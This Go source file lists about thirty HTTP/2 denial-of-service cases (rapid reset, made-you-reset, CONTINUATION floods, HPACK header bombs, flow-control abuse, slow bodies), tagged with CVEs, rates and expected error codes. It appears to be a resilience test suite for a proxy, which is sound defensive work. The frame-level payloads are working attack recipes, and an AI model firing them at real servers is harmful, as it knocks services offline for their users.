package http2

import (
	"bytes"
	"slices"
	"time"

	"golang.org/x/net/http2"
)

// frameSize is how many bytes of a frame every server accepts (RFC 9113, section 4.2).
const frameSize = 16 << 10

var (
	post  = request("POST", "/count/attack")
	ping  = [8]byte{'p', 'i', 'n', 'g'}
	often = 10 * time.Millisecond
)

// Bytes of header blocks (RFC 7541, section 6.1): an indexed field of the static table,
// accept-encoding: gzip, deflate, and the newest field of the dynamic table.
const (
	staticField = 0x80 | 16
	newestField = 0x80 | 62
)

// attacks are sent at a bounded rate: for most 20 connections send 10,000 times the frames
// each second.
var attacks = []attack{
	{
		name:  "rapid reset", // CVE-2023-44487
		conns: 20, times: 100, interval: often,
		frames: func(a *attacker) { _ = a.WriteRSTStream(a.open(post, true), http2.ErrCodeCancel) },
	},
	{
		name:  "rapid reset before the body",
		conns: 20, times: 100, interval: often,
		frames: func(a *attacker) { _ = a.WriteRSTStream(a.open(post, false), http2.ErrCodeCancel) },
	},
	{
		name:  "rapid reset, again on a new connection",
		conns: 10, times: 100, interval: often, reconnects: true,
		frames: func(a *attacker) { _ = a.WriteRSTStream(a.open(post, true), http2.ErrCodeCancel) },
	},

	// CVE-2025-8671, made you reset: the proxy has to reset the streams.
	{
		name:  "window update of 0",
		conns: 20, times: 100, interval: often, code: http2.ErrCodeProtocol,
		frames: func(a *attacker) { _ = a.WriteWindowUpdate(a.open(post, false), 0) },
	},
	{
		name:  "window above its maximum",
		conns: 20, times: 100, interval: often, code: http2.ErrCodeFlowControl,
		frames: func(a *attacker) { _ = a.WriteWindowUpdate(a.open(post, false), 1<<31-1) },
	},
	{
		name:  "data after the end of a stream",
		conns: 20, times: 100, interval: often, code: http2.ErrCodeStreamClosed,
		frames: func(a *attacker) { _ = a.WriteData(a.open(post, true), true, []byte("value=1")) },
	},
	{
		name:  "priority that depends on itself",
		conns: 20, times: 100, interval: often, code: http2.ErrCodeProtocol,
		frames: func(a *attacker) {
			id := a.open(post, false)
			_ = a.WritePriority(id, http2.PriorityParam{StreamDep: id})
			_ = a.WriteRSTStream(id, http2.ErrCodeCancel) // RFC 9113 has no priorities, so the proxy need not reset
		},
	},
	{
		name:  "priority of a wrong size",
		conns: 20, times: 100, interval: often, code: http2.ErrCodeFrameSize,
		frames: func(a *attacker) { _ = a.WriteRawFrame(http2.FramePriority, 0, a.open(post, false), make([]byte, 4)) },
	},
	{
		name:  "body longer than declared",
		conns: 20, times: 100, interval: often, code: http2.ErrCodeProtocol,
		frames: func(a *attacker) {
			_ = a.WriteData(a.open(request("POST", "/count/attack", "content-length", "6"), false), false, []byte("value=1"))
		},
	},

	{
		name:  "settings, acknowledgements unread",
		conns: 20, times: 100, interval: often, isDeaf: true,
		frames: func(a *attacker) { _ = a.WriteSettings() },
	},
	{
		name:  "pings, answers unread",
		conns: 20, times: 100, interval: often, isDeaf: true,
		frames: func(a *attacker) { _ = a.WritePing(false, ping) },
	},
	{
		name:  "settings, again on a new connection",
		conns: 10, times: 100, interval: often, isDeaf: true, reconnects: true,
		frames: func(a *attacker) { _ = a.WriteSettings() },
	},
	{
		name:  "empty data",
		conns: 20, times: 100, interval: often,
		begin:  func(a *attacker) { a.open(post, false) },
		frames: func(a *attacker) { _ = a.WriteData(1, false, nil) },
	},
	{
		name:  "priorities",
		conns: 20, times: 100, interval: often,
		frames: func(a *attacker) {
			a.nextID += 2
			_ = a.WritePriority(a.nextID, http2.PriorityParam{StreamDep: 1})
		},
	},
	{
		name:  "window updates",
		conns: 20, times: 100, interval: often, mayStay: true, code: http2.ErrCodeFlowControl,
		frames: func(a *attacker) { _ = a.WriteWindowUpdate(0, 1) },
	},

	{
		name:  "continuations", // CVE-2023-45288
		conns: 20, times: 1, interval: often, code: http2.ErrCodeProtocol,
		begin: func(a *attacker) {
			_ = a.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: post})
		},
		frames: func(a *attacker) {
			_ = a.WriteContinuation(1, false, bytes.Repeat([]byte{staticField}, frameSize/2))
		},
	},
	{
		name:  "empty continuations",
		conns: 20, times: 100, interval: often, code: http2.ErrCodeProtocol,
		begin: func(a *attacker) {
			_ = a.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: post})
		},
		frames: func(a *attacker) { _ = a.WriteContinuation(1, false, nil) },
	},
	{
		name:  "references to a large field", // 60 MB of header fields in each request
		conns: 20, times: 1, interval: 100 * time.Millisecond, mayStay: true, code: http2.ErrCodeCompression,
		begin: func(a *attacker) {
			a.open(slices.Concat(post, largeField), true)
		},
		frames: func(a *attacker) {
			a.open(slices.Concat(post, bytes.Repeat([]byte{newestField}, frameSize-len(post))), true)
		},
	},
	{
		name:  "many small fields",
		conns: 20, times: 1, interval: 100 * time.Millisecond, mayStay: true, code: http2.ErrCodeCompression,
		frames: func(a *attacker) {
			a.open(slices.Concat(post, bytes.Repeat([]byte{staticField}, frameSize-len(post))), true)
		},
	},

	{
		name:  "data of one byte, padded",
		conns: 20, times: 10, interval: often, mayStay: true,
		begin:  func(a *attacker) { a.open(post, false) },
		frames: func(a *attacker) { _ = a.WriteDataPadded(1, false, []byte("x"), make([]byte, 255)) },
	},
	{
		name:  "empty data, padded",
		conns: 20, times: 100, interval: often,
		begin:  func(a *attacker) { a.open(post, false) },
		frames: func(a *attacker) { _ = a.WriteDataPadded(1, false, nil, make([]byte, 255)) },
	},
	{
		name:  "frames of an unknown type",
		conns: 20, times: 100, interval: often,
		frames: func(a *attacker) { _ = a.WriteRawFrame(0xf0, 0, 0, []byte("unknown")) },
	},
	{
		name:  "settings that change the windows of many streams",
		conns: 20, times: 100, interval: often,
		begin: func(a *attacker) { a.openMany(post, false) },
		frames: func(a *attacker) {
			_ = a.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20})
		},
	},
	{
		name:  "requests beyond the limit of streams",
		conns: 20, times: 100, interval: often,
		begin:  func(a *attacker) { a.openMany(post, false) },
		frames: func(a *attacker) { a.open(post, false) },
	},
	{
		name:  "windows of one byte", // CVE-2019-9511
		conns: 20, times: 10, interval: often, mayStay: true, code: http2.ErrCodeFlowControl,
		settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
		begin:    func(a *attacker) { a.openMany(request("GET", "/client.js"), true) },
		frames: func(a *attacker) {
			for _, id := range a.streams {
				_ = a.WriteWindowUpdate(id, 1)
			}
		},
	},
	{
		name:  "fields without name and value", // CVE-2019-9516
		conns: 20, times: 1, interval: 100 * time.Millisecond, mayStay: true, code: http2.ErrCodeCompression,
		frames: func(a *attacker) {
			a.open(slices.Concat(post, bytes.Repeat([]byte{0x10, 0, 0}, (frameSize-len(post))/3)), true)
		},
	},
	{
		name:  "updates of the size of the dynamic table",
		conns: 20, times: 1, interval: 100 * time.Millisecond, mayStay: true, code: http2.ErrCodeCompression,
		frames: func(a *attacker) {
			a.open(slices.Concat(bytes.Repeat([]byte{0x20}, frameSize-len(post)), post), true)
		},
	},

	// These hold as many streams as they can. The timeouts end them.
	{
		name:  "slow bodies",
		conns: 100, times: 1, interval: time.Second, mayStay: true,
		begin: func(a *attacker) {
			a.openMany(request("POST", "/count/attack", "content-length", "1000000"), false)
			for _, id := range a.streams {
				_ = a.WriteData(id, false, make([]byte, 400))
			}
		},
		frames: func(a *attacker) {
			for _, id := range a.streams {
				_ = a.WriteData(id, false, []byte("x"))
			}
		},
	},
	{
		name:  "bodies that fill the windows", // 100 MB
		conns: 100, mayStay: true,
		begin: func(a *attacker) {
			a.openMany(request("POST", "/batch", "content-type", "text/plain"), false)
			for _, id := range a.streams {
				_ = a.WriteData(id, false, make([]byte, 8000))
			}
		},
	},
	{
		name:  "no window for responses",
		conns: 100, mayStay: true,
		settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
		begin:    func(a *attacker) { a.openMany(request("GET", "/client.js"), true) },
	},
	{
		name:  "no window for errors",
		conns: 100, mayStay: true,
		settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
		begin:    func(a *attacker) { a.openMany(request("POST", "/count/attack?value=x"), true) },
	},
}

// largeField is a field that fills the dynamic table of HPACK: a literal with incremental
// indexing and a new name (RFC 7541, section 6.2.1).
var largeField = slices.Concat(
	[]byte{0x40, 1, 'x', 127, 0xa1, 0x1e}, // a value of 127 + 0x21 + 0x1e<<7 = 4000 bytes
	bytes.Repeat([]byte{'v'}, 4000),
)
